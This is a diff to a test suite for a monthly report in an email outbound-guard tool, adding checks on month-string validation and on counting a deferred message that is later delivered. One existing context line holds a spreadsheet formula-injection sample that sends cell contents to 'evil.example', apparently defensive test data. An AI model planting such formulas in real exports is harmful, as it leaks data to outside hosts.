@@ -31,7 +31,7 @@ describe('monthlyReport', () => {
     // the previous month of a moment early on 1 November in Japan (still 31 October in UTC) is October
     expect(previousMonth(Date.parse('2026-10-31T16:00:00.000Z'))).toBe('2026-10');
     expect(previousMonth(Date.parse('2026-01-15T00:00:00.000Z'))).toBe('2025-12');
-    for (const bad of ['2026-13', '2026-1', '26-10', '2026-10-01', '']) expect(() => monthBounds(bad)).toThrow(/YYYY-MM/);
+    for (const bad of ['2026-13', '2026-1', '26-10', '2026-10-01', '', '0026-10']) expect(() => monthBounds(bad)).toThrow(/YYYY-MM/);
   });
 
   it('counts events by action, and message decisions by rule, clause and sender domain', () => {
@@ -65,6 +65,25 @@ describe('monthlyReport', () => {
       { key: '<>', count: 1 },
       { key: '=hyperlink("http://evil.example/?"&a1,"x")', count: 1 },
     ]);
+  });
+
+  it('counts a message deferred (451) and then accepted once: the deferral is no decision', async () => {
+    const d = fs.mkdtempSync(path.join(os.tmpdir(), 'outguard-report-'));
+    const s = SqliteAuditStore.open(d);
+    try {
+      const message = { sender: 'taro@example.co.jp', recipients: ['a@partner.example'], rules: ['first-time-domain'], clauses: ['遵守事項 第6-1'] };
+      await s.appendMany([
+        { time: '2026-10-02T01:00:00.000Z', type: 'deferred', messageId: 'try1', ...message, action: 'tempfail', detail: '451 4.4.1 Next hop unavailable' },
+        { time: '2026-10-02T01:05:00.000Z', type: 'delivered', messageId: 'try2', ...message, action: 'deliver' },
+      ]);
+      const r = await monthlyReport(s, '2026-10', { now: () => REPORT_TIME });
+      expect(r.messages).toBe(1);
+      expect(r.byRule).toEqual([{ key: 'first-time-domain', count: 1 }]);
+      expect(r.byAction).toEqual(expect.arrayContaining([{ key: 'deferred', count: 1 }, { key: 'delivered', count: 1 }]));
+    } finally {
+      await s.close();
+      fs.rmSync(d, { recursive: true, force: true });
+    }
   });
 
   it('counts holds and the median time to release by the month of the release (odd and even counts)', async () => {
